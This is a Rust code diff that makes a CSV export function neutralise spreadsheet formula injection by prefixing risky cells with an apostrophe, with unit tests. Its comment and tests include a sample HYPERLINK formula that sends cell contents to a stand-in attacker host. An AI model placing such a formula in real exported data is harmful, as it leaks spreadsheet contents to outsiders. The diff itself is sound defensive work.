@@ -251,11 +251,22 @@ pub fn to_text(r: &WeeklyReport) -> String {
 
 /// One CSV field, quoted when it contains a comma, quote, CR or LF, or starts or ends with a
 /// space (RFC 4180: quotes inside are doubled).
+///
+/// Scraped text goes into these files, and spreadsheets run a cell that starts with `=`, `+`, `-`,
+/// `@`, a tab or a CR as a formula (`=HYPERLINK("http://evil/?"&A1)` leaks the sheet). Such a cell
+/// gets a leading `'`, which spreadsheets show as text (OWASP's advice); a plain number such as
+/// `-3` or `+0.5` cannot be a formula and is left as it is.
 pub fn csv_field(s: &str) -> String {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
+    let s = if formula {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    };
     if s.contains([',', '"', '\r', '\n']) || s.starts_with(' ') || s.ends_with(' ') {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -395,5 +406,18 @@ mod tests {
         assert_eq!(csv_field("say \"hej\""), "\"say \"\"hej\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
         assert_eq!(csv_field(" padded"), "\" padded\"");
+        // Formula injection: neutralised, numbers untouched.
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
+        );
+        for f in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "=1"] {
+            assert!(
+                csv_field(f).trim_start_matches('"').starts_with('\''),
+                "{f}"
+            );
+        }
+        assert_eq!(csv_field("-3"), "-3");
+        assert_eq!(csv_field("+0.5"), "+0.5");
     }
 }
